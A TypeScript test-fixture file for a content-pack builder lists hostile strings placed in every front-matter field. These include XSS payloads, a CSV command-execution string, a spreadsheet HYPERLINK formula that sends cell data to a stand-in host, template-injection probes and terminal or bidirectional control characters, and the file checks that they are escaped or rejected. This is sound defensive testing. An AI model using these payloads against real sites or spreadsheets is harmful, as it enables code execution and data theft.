/**
 * Strings in fields that try to get out of the place they are shown in: text, attribute, title, script block, feed, captions, calendar, table, terminal.
 * Each hostile string stands in every field that takes any text (`every-field.ts`); `test/build/hostile-text.test.ts` holds such a pack against a plain one, element by element.
 * After OWASP's sheets on XSS and CSV injection, RFC 5545 and W3C WebVTT, in our own words.
 */
import { everyField } from './every-field.ts';
import { withPart, type Hostile, type HostileClass } from './hostile-case.ts';

const inEveryField = (name: string, short: string, long = short): Hostile => ({ name, files: { 'pack.md': everyField(short, long, 'A body.') }, told: ['*'], published: true, shows: [long.trim()] });
/** A character that is told and keeps the pack away, as it is or behind a sign. */
const strange = (name: string, title: string, line = 2): Hostile => ({
  name,
  files: { 'pack.md': withPart('title: The Wheelbarrow Goes Home\nlanguage', `title: ${title}\nlanguage`) },
  told: [`${line} file/control-character`],
  published: false,
});

export const frontMatterStrings: HostileClass = {
  class: 'front-matter strings',
  cases: [
    inEveryField('a script', '<script>canary()</script>'),
    inEveryField('the end of a script block, and a remark', '</script><!--<script>', '</script><!--<script>canary()</script>-->'),
    inEveryField('out of an attribute', `"'><img src=x onerror=canary()>`),
    inEveryField('a handler', `" onfocus=canary() autofocus x="`),
    inEveryField('signs for characters', '&lt;b&gt;&#60;&quot;&amp;amp;', '&lt;script&gt;canary()&lt;/script&gt;&#60;&quot;&amp;amp;'),
    inEveryField('line separators of JavaScript', 'a\u2028b\u2029c'),
    inEveryField('an arrow of captions', '00:01.000 --> 00:02.000', 'NOTE 00:01.000 --> 00:02.000 position:0%'),
    inEveryField('marks of a calendar', 'a;b,c\\n:d', 'END:VEVENT;X=1,2\\nBEGIN:VALARM:\\'),
    inEveryField('a sum for a table', '=1+1', '=HYPERLINK("https://elsewhere.example/?"&A1,"press")'),
    inEveryField('a call for a table', '@SUM(1)', '+cmd|" /C calc"!A0'),
    inEveryField('code for the sheets of paper', '#eval("1")', '#read("/etc/hostname") $x$ @ref *b* <label> \\ //'),
    inEveryField('code for a template', '{{7919*7907}}', '{{ 7919*7907 }}{% x %}${7919*7907}#{7919*7907}'),
    inEveryField('words of the first object', '__proto__', 'constructor toString __proto__ hasOwnProperty valueOf'),
    inEveryField('an address that runs', 'javascript:canary()', 'javascript:canary() data:text/html,<script>canary()</script>'),
    inEveryField('letters beyond the first plane, and joined ones', '👩‍👩‍👧 e\u0301 ﷽', '👩‍👩‍👧‍👦 e\u0301\u0301\u0301 ﷽ 𝒳 \u{1F3F4}\u{E0067}\u{E007F}'),
    inEveryField('marks of direction that may be there', 'a\u200eb\u200fc'),
    strange('a sign that steers a terminal, as it is', 'The \u001b[31mhen'),
    strange('the same behind a sign', String.raw`"The \x1b[31mhen"`),
    strange('a bell', String.raw`"The \a hen"`),
    strange('the null sign', String.raw`"The \0 hen"`),
    strange('text turned round', 'The \u202enhe'),
    strange('text turned round, behind a sign', String.raw`"The \u202enhe"`),
    strange('an isolate', String.raw`"The \u2066hen"`),
    strange('half of a pair', String.raw`"The \ud800 hen"`),
    strange('a character that is none', String.raw`"The \uffff hen"`),
    strange('a form feed', 'The \u000chen'),
    strange('a sign for the next line', 'The \u0085hen'),
    {
      name: 'a sign that steers a terminal, in the name of a field',
      files: { 'pack.md': withPart('language: en\n', `language: en\n${String.raw`"\x1b[2J"`}: 1\n`) },
      told: ['4 file/control-character', '4 pack/unknown-field'],
      published: false,
    },
    {
      name: 'an address whose scheme only begins like http',
      files: { 'pack.md': withPart('readings:\n', 'recording:\n  link: httpx://elsewhere.example/\n  permission: Ours.\nreadings:\n') },
      told: ['18 recording/nothing-to-play', '19 pack/bad-format'],
      published: false,
    },
  ],
};
